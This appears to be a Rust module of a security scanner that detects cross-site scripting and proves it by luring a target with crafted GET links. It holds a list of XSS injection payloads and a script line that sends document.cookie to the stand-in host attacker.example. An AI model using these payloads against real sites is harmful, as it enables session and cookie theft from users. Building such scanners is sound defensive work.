//! Data of a caller stands unescaped in an HTML page.

use crate::Attack;
use crate::doors::{self, Door};
use crate::entry::Danger;
use crate::flow::{self, Sinks};
use crate::probe;
use crate::route;
use crate::{Profile, Proved, Reason, Risk};
use model::attack::{Outcome, PlantAt};
use model::code::{EventSource, Flow, SinkKind};
use model::{App, Finding, Foothold, HttpRequest, Target};

/// The risk.
pub const RISK: Risk = Risk {
    slug: SLUG,
    page: include_str!("risk.md"),
    profile: Profile::Default,
    check,
    attack: Ok(Attack { foothold: Foothold::Anyone, plant, run }),
    detections: &[("cross_site_scripting/detect.yml", include_str!("detect.yml"))],
    without: &[(Proved::Blocked, Reason::AdviceOnly)],
};

const SLUG: &str = "cross-site-scripting";

const SINKS: Sinks = Sinks {
    slug: SLUG,
    takes,
    says: |_| "puts into its page, unescaped,",
    danger: |_| Danger::Leak,
    credentials: false,
    fix: flow::advice,
};

fn check(app: &App) -> Vec<Finding> {
    flow::findings(app, &SINKS)
}

fn takes(flow: &Flow) -> bool {
    matches!(flow.sink, SinkKind::Html)
}

/// Sends home what the page may read. The host is one of those that nobody has (RFC 2606).
const SCRIPT: &str = "fetch('//attacker.example/?'+document.cookie)";
/// Ways into a page: its text, an attribute's value, and elements whose content is text.
const PAYLOADS: [&str; 6] = [
    "<script>{}</script>",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "<img src=x onerror=\"{}\">",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
];

/// A secret in the browser of a customer who follows a link; what only a request with a body or a header carries, no link sends.
fn plant(app: &App, findings: &[&Finding]) -> Result<PlantAt, String> {
    let doors = doors::all(app);
    let linked = findings
        .iter()
        .flat_map(|finding| flow::of(app, finding, takes))
        .any(|(function, _, flow)| doors.iter().any(|door| door.function.id == *function && is_linked(door, flow)));
    linked.then_some(PlantAt::Browser).ok_or_else(|| "no GET route of a REST API carries the data: no link leads a customer there".into())
}

/// Whether a link can carry the flow's data through a door.
fn is_linked(door: &Door<'_>, flow: &Flow) -> bool {
    let link = matches!(flow.source, EventSource::Query(_) | EventSource::PathParameter(_));
    link && door.rest().is_some() && matches!(&*door.method, "GET" | "ANY") && door.carries(&flow.source, &flow.methods)
}

fn run(app: &App, findings: &[&Finding], target: &mut dyn Target, outcome: &mut Outcome) {
    let doors = doors::all(app);
    for finding in findings {
        for (function, _, flow) in flow::of(app, finding, takes) {
            for door in doors.iter().filter(|door| door.function.id == *function && is_linked(door, flow)) {
                if lures(door, flow, target, outcome) {
                    return;
                }
            }
        }
    }
}

fn lures(door: &Door<'_>, flow: &Flow, target: &mut dyn Target, outcome: &mut Outcome) -> bool {
    let Some(found) = door.rest() else { return false };
    let path = &found.route.path;
    for payload in PAYLOADS {
        let payload = payload.replace("{}", SCRIPT);
        let mut link = HttpRequest { method: "GET".into(), path: route::fill(path, "1"), ..HttpRequest::default() };
        probe::put(&mut link, path, &flow.source, &payload);
        match target.lure(&found.api.id.to_string(), &link, SCRIPT) {
            Ok(lured) => {
                if let Some(stolen) = lured.stolen {
                    outcome.steps.push(format!("a customer followed a link to GET {path} with `{payload}`: the page ran the script"));
                    outcome.loot.push(stolen);
                    (outcome.refused, outcome.broke) = (None, None);
                    return true;
                }
                let kind = lured.response.header("content-type").unwrap_or("no content type");
                outcome.refused = Some(format!("{} {kind}: the script does not run", lured.response.status));
            }
            Err(error) => {
                outcome.failed(&error);
                return false;
            }
        }
    }
    outcome.steps.push(format!("GET {path}: {} links, and no script ran", PAYLOADS.len()));
    false
}
